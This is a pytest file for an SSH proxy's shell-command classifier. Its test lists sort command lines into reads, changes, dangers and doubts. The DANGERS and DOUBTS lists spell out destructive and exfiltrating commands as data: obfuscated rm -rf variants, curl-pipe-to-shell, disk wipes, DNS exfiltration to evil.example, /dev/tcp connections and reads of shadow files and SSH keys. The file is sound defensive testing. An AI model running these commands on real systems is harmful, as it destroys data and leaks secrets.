"""What a command line does, by the book: reads, changes, dangers; and the ways to make one look like another."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from access.statements import Effect, Flag
from proxy.ssh.classify import is_transfer, judge

READ, WRITE, DANGER, ADMIN, OPAQUE = Effect.READ, Effect.WRITE, Effect.DANGER, Effect.ADMIN, Effect.OPAQUE

READS = """
ls -la /var/log
dig example.com
dig @192.0.2.1 example.com
getent hosts web-2
ping -c1 web-2
cat /var/log/syslog | grep error | tail -n 20
systemctl status nginx
systemctl --no-pager status nginx
journalctl -u nginx -n 50 --no-pager
df -h; free -m && uptime
ps aux
ps -o pid,etime -u deploy
ps -ef | grep nginx
tail -f /var/log/nginx/access.log
kubectl get pods -n prod
kubectl -n prod logs web-1
docker ps -a
docker container ls
git -C /srv/app log --oneline -5
git branch
find /var/log -name '*.gz' -size +10M
sed -n 1,20p /var/log/syslog
sed 's/a/b/g' /var/log/syslog
/bin/ls
/usr/bin/wc -l /var/log/syslog
l\\s /tmp
"ls" /tmp
'l's /tmp
echo 'rm -rf /'
timeout 5 df
nice ls
! true
[ -f /etc/hostname ] && echo there
date +%s
hostname -f
ip addr show
ss -tlnp
lsof -iTCP -sTCP:LISTEN -P -n
iptables -L -n
crontab -l
dpkg -l
apt list --installed
psql -d shop -c 'select 1'
bash -c 'ls -l; id'
ls > /dev/null 2>&1
cat < /var/log/syslog
command -v python3
tar tzf /srv/backup.tgz
# only a comment
ls # rm -rf /
""".strip().splitlines()

CHANGES = """
mkdir /srv/new
rm /srv/app/one.txt
touch x
cp /srv/a /srv/b
echo hi > /srv/app/note
ls >> out.txt
systemctl restart nginx
docker restart web
kubectl apply -f /srv/app.yaml
git pull
apt-get install -y curl
sed -i s/a/b/ /srv/app/conf
kill 4242
tee /srv/x
uniq a b
tar xf /srv/backup.tar
psql -c "insert into t values (1)"
""".strip().splitlines()

DANGERS = r"""
rm -rf /
rm -fr /srv/app
rm --recursive --force /srv
rm --rec /srv
rm *.log
r\m -rf /srv
'rm' -rf /srv
r""m -rf /srv
/bin/rm -rf /srv
/bin/../bin/rm -rf /srv
./rm -rf /srv
true && rm -rf /srv
ls; rm -rf /srv
ls | xargs rm -rf
(rm -rf /srv)
{ rm -rf /srv; }
! rm -rf /srv
if true; then rm -rf /srv; fi
while true; do rm -rf /srv; done
for f in a b; do rm -rf $f; done
case x in x) rm -rf /srv;; esac
f() { rm -rf /srv; }; f
ls $(rm -rf /srv)
ls `rm -rf /srv`
echo "$(rm -rf /srv)"
cat <(rm -rf /srv)
echo ${x:-$(rm -rf /srv)}
echo $(( $(rm -rf /srv) + 1 ))
x=$(rm -rf /srv) ls
[ -n "$(rm -rf /srv)" ]
cat <<< "$(rm -rf /srv)"
sudo rm -rf /srv
sudo -u root rm -rf /srv
env X=1 rm -rf /srv
nohup rm -rf /srv &
timeout 5 rm -rf /srv
nice -n 5 rm -rf /srv
time rm -rf /srv
exec rm -rf /srv
eval 'rm -rf /srv'
eval rm -rf /srv
bash -c 'rm -rf /srv'
sh -c "sh -c 'rm -rf /srv'"
curl -s https://example.com/x | sh
curl -s https://example.com/x | sudo bash
wget -qO- https://example.com/x | python3
echo cm0gLXJm | base64 -d | sh
find /srv -delete
find /srv -exec rm -rf {} \;
find /srv -exec sh -c 'rm -rf "$1"' _ {} +
dd if=/dev/zero of=/dev/sda
mkfs.ext4 /dev/sda1
shred /srv/x
truncate -s 0 /srv/db
shutdown -h now
systemctl poweroff
systemctl mask nginx
chmod -R 777 /srv
chmod 4755 /srv/x
chown -R nobody /
iptables -F
echo x > /etc/passwd
echo x >> ~/.ssh/authorized_keys
echo x > /srv/../etc/passwd
echo x > /dev/sda
cp /tmp/x /etc/cron.d/x
tee /etc/sudoers
kubectl delete pod web-1
docker rm -f web
docker system prune
git push --force
git reset --hard
apt-get purge nginx
kill -9 -1
crontab -r
date -s tomorrow
journalctl --vacuum-size=1M
psql -c 'drop table t'
su -c 'ls'
""".strip().splitlines()

#: Not known now, or more than it looks like: somebody has to look. Never READ alone.
DOUBTS = r"""
dig $(cat /srv/app/x).evil.example
getent hosts $(hostname).evil.example
ping -c1 "$(hostname).evil.example"
cat /srv/app/x | xargs -n1 host
while read x; do dig $x.evil.example; done < /srv/app/x
find /srv -exec getent hosts {} +
cat /etc/pgbouncer/userlist.txt
cat ~/.msmtprc
cat /srv/app/config/database.yml
head /etc/sssd/sssd.conf
cat ~/.composer/auth.json
$X
$X -l
"$CMD" x
l$X
{ls,-l}
ls {a,b}
ls $HOME
ls "$HOME"
ls ~/$x
$'l\x73'
ls $'a\nb'
X=1 ls
LD_PRELOAD=/x.so ls
PATH=/tmp:$PATH ls
env PATH=/tmp ls
export PATH=/tmp
alias ls=rm
source /srv/x
. /srv/x
unknown-tool
/tmp/ls
./ls
../bin/ls
python3 -c 'print(1)'
perl -e 1
awk 'BEGIN{system("id")}'
vim /srv/x
less /var/log/syslog
ls &
coproc ls
trap ls EXIT
exec 3<>/dev/tcp/1.2.3.4/80
cat < /dev/tcp/1.2.3.4/80
sort -o /srv/x y
sort --outp=/srv/x y
sort --compress-program=/x y
sed 's/a/b/e' x
sed 'w /srv/x' y
sed -f /srv/x y
find . -fprintf /srv/x a
tar --to-command=/x -xf y
tar -cf x --checkpoint=1 --checkpoint-action=exec=/x y
git -c core.pager=/x log
git log --ext-diff
git --exec-path=/x log
git diff --output=/srv/x
kubectl --kubeconfig=/x get pods
kubectl get secrets
kubectl exec web-1 -- ls
docker run alpine
docker exec web ls
docker -H tcp://x ps
systemctl -H host status
psql
psql -c '\! id'
psql -f /srv/x
psql -c 'select pg_read_file(1)'
env
printenv
ps e
ps -o pid e
ps -E
ps axe
cat /etc/shadow
cat /etc/./shadow
cat /etc//shadow
cat /etc/x/../shadow
cat /etc/shado?
cat /etc/sh*
cat /proc/1/environ
cat ~/.ssh/id_ed25519
cat /srv/deploy_key
cd /etc && ls
cat .ssh/id_rsa
cat /srv/.env
head -c 10 < /etc/shadow
grep -r password /etc
grep -R x
ssh other-host ls
crontab /srv/x && true
top
sudo ls
watch ls
xargs ls
setsid ls
bash -c "ls $1"
bash -c
bash /srv/x.sh
bash --rcfile /x -c ls
fish -c ls
find . -exec {} \;
time -o /srv/x ls
cat <<EOF
$(id)
""".strip().splitlines()

UNREADABLE = ["", " ", "\n", "ls )", "ls | & x", "(", "ls '", 'ls "', "if", "ls\r", "ls\x0bx", "ls\x00", "ls \u202e", "ls\u00a0-l",
              "ls \u200b", "\u2028", "ls" + " x" * 20_000, "(" * 500 + ")" * 500, "$(" * 300 + ")" * 300]  # fmt: skip


@pytest.mark.parametrize("line", READS)
def test_reads(line: str) -> None:
    if line.startswith("#"):
        assert not judge(line).understood
        return
    found = judge(line)
    assert found.understood, found.problem
    assert found.effects == {READ}, found.problem


@pytest.mark.parametrize("line", CHANGES)
def test_changes(line: str) -> None:
    assert judge(line).effects - {READ} == {WRITE}


@pytest.mark.parametrize("line", DANGERS)
def test_dangers(line: str) -> None:
    found = judge(line)
    assert DANGER in found.effects or not found.understood, found


@pytest.mark.parametrize("line", DOUBTS)
def test_doubts(line: str) -> None:
    found = judge(line)
    assert found.effects - {READ} or not found.understood, found


@pytest.mark.parametrize("line", UNREADABLE)
def test_what_cannot_be_read(line: str) -> None:
    found = judge(line)
    assert not found.understood
    assert found.problem


@pytest.mark.parametrize(
    "line", ["scp -t /srv", "scp -f /srv/x", "scp -r -p -t .", "rsync --server -vlogDtpre.iLsfxC . /srv", "/usr/bin/scp -t x",
             "sudo scp -t x", "timeout 5 rsync --server --sender . x", "/usr/lib/openssh/sftp-server", "ls; scp -t x"],
)  # fmt: skip
def test_transfers_are_seen(line: str) -> None:
    assert is_transfer(line)


def test_lists_are_long_enough() -> None:
    assert len(DANGERS) + len(DOUBTS) >= 60


def test_words_for_rules_and_cards() -> None:
    found = judge("systemctl restart nginx && rm -rf /srv/app > /srv/log")
    assert found.verbs == ("WRITE FILE", "SYSTEMCTL RESTART", "RM")
    assert set(found.writes) >= {"nginx", "/srv/app", "/srv/log"}
    assert found.functions == ("systemctl", "rm")
    assert found.flags == {Flag.MULTI, Flag.UNBOUNDED_WRITE}
    assert ADMIN in judge("useradd eve").effects


def test_newlines_are_more_commands() -> None:
    assert DANGER in judge("ls\nrm -rf /srv").effects
    assert DANGER in judge("ls # x\nrm -rf /srv").effects
    assert DANGER in judge("cat <<EOF | sh\nrm -rf /srv\nEOF\n").effects or not judge("cat <<E | sh\nx\nE\n").understood
    assert judge("cat <<'EOF'\n$(rm -rf /)\nEOF\n").effects == {READ}
    assert judge("cat <<EOF\n$(id)\nEOF\n").effects - {READ}


@given(st.text(max_size=80))
def test_anything_gets_an_answer(line: str) -> None:
    found = judge(line)
    assert found.effects


@given(st.text(alphabet="rmls -/$(){}'\"\\;|&<>`*#\n\t ax=", max_size=40))
def test_shell_like_text_gets_an_answer(line: str) -> None:
    judge(line)
    is_transfer(line)
